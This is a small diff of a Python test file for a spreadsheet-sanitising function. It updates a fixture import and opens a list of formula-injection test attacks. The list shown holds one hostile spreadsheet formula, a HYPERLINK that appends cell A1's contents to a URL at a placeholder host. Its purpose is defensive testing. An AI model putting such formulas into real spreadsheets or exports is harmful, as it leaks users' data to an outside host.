@@ -16,7 +16,7 @@ import pytest
 from core import monitoring
 from core.monitoring import explorer
 from core.text import FORMULA_STARTS, spreadsheet_safe
-from tests.core.monitoring.test_prediction_log import T0, rec
+from tests.fixtures.predictions import T0, rec
 
 ATTACKS = [
     '=HYPERLINK("http://x.example/?"&A1,"open")',
